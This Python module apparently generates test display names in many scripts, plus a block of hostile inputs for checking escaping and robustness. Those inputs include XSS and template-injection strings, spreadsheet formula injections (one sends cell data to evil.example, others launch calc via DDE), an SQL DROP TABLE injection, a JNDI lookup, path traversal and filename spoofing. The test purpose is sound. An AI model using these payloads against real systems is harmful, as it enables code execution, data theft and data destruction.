"""Display names in many scripts, and the hostile ones that a page, a CSV file or a database must survive."""

import json

from simulator.mixing import draw

SCRIPTS: tuple[tuple[tuple[str, ...], tuple[str, ...], str], ...] = (
    (("Zoë", "José", "Søren", "Łukasz", "Çağla", "Željko", "Núria", "Ångström"), ("Müller", "Nuñez", "Ødegård"), " "),
    (("Анна", "Дмитрий", "Ольга", "Иван", "Марія", "Стефан"), ("Иванова", "Петров", "Шевченко", "Соколов"), " "),
    (("Μαρία", "Γιώργος", "Ελένη", "Νίκος"), ("Παπαδόπουλος", "Αγγελοπούλου", "Γεωργίου"), " "),
    (("محمد", "فاطمة", "يوسف", "ليلى", "زهرا"), ("العلي", "حسن", "المصري", "محمدی"), " "),
    (("נועה", "דוד", "יעל", "איתן"), ("כהן", "לוי", "מזרחי"), " "),
    (("प्रिया", "अर्जुन", "आरव", "काव्या"), ("शर्मा", "पटेल", "सिंह"), " "),
    (("さくら", "健二", "葵", "陽翔"), ("田中", "鈴木", "山本"), " "),
    (("王", "李", "张", "陈", "黃"), ("小明", "伟", "芳", "怡君"), ""),
    (("김", "이", "박", "최"), ("민준", "서연", "지우"), ""),
    (("สมชาย", "มาลี", "นภา"), ("ใจดี", "ศรีสุข"), " "),
    (("অনন্যা", "রহিম"), ("দাস", "হোসেন"), " "),
    (("தமிழ்", "கவிதா"), ("குமார்", "செல்வன்"), " "),
    (("გიორგი", "ნინო"), ("ბერიძე", "კაპანაძე"), " "),
    (("Արամ", "Անի"), ("Պետրոսյան", "Սարգսյան"), " "),
    (("አበበ", "ሰላም"), ("ተስፋዬ", "ገብረ"), " "),
    (("🌸 Lia", "✨Max✨", "𝓔𝓶𝓲𝓵𝔂", "Ⓐⓛⓔⓧ", "👩🏽‍🚀 Ana", "🏳️‍🌈 Sam"), ("🌊", "| art", "📷 photo", ""), " "),
)

HOSTILE_NAMES = (
    "<script>alert('x')</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}{% debug %}",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "Robert'); DROP TABLE people;--",
    "\u202egnp.exe\u202c official",
    "zero\u200bwidth\u200djoined\ufeff name",
    "Z\u0351\u036b\u0343a\u0363\u0349l\u0308\u0353g\u033d\u0321o\u030a\u034b",
    "\u2066\u2067isolated\u2069\u2069 مرحبا abc",
    "quotes \" and ' and ` and \\ backslash",
    "tab\tnew\nline\r\nname",
    "javascript:alert(1)",
    "&lt;b&gt;bold&lt;/b&gt; &amp; &#x3C;",
    "A" * 150,
    "W" * 75 + " " + "ʷ" * 74,
    "\u3164",
    " ",
    "",
    "null",
    "undefined",
    "NaN",
    "\u0130stanbul \u0131 \u00df ﬁ",
    "👨‍👩‍👧‍👦" * 12,
    "العربية English עברית 123",
    "%s %d %n %x ${jndi:ldap://x}",
    "../../etc/passwd",
    "‮‮‮",
)
"""Texts that a page must escape, a spreadsheet must not run, and a layout must bear (150 is Instagram's limit)."""

DIRTY_NAMES = ("nul\x00inside", "\ud800 lone surrogate", "tail \udfff", "\x00")
"""Not valid text at all: sent as the JSON escapes \\u0000 and \\ud800, only with --dirty-text."""

TABLE_SIZE = 2048
HOSTILE_BLOCK = 64


def as_json_text(text: str) -> str:
    """The text as it stands between the quotes of a JSON string, in ASCII."""
    return json.dumps(text)[1:-1]


def build_table(seed: int, *, dirty: bool) -> tuple[str, ...]:
    """2,048 display names, already escaped for JSON; the first 64 are the hostile ones."""
    hostile = HOSTILE_NAMES + (DIRTY_NAMES if dirty else ())
    names = [hostile[n % len(hostile)] for n in range(HOSTILE_BLOCK)]
    if dirty:
        names[: len(DIRTY_NAMES)] = DIRTY_NAMES
    for n in range(HOSTILE_BLOCK, TABLE_SIZE):
        h = draw(seed, n, 11)
        given, family, joint = SCRIPTS[h % len(SCRIPTS)]
        first, second = given[(h >> 8) % len(given)], family[(h >> 24) % len(family)]
        names.append(f"{first}{joint}{second}".strip() if joint else f"{first}{second}")
    return tuple(as_json_text(name) for name in names)
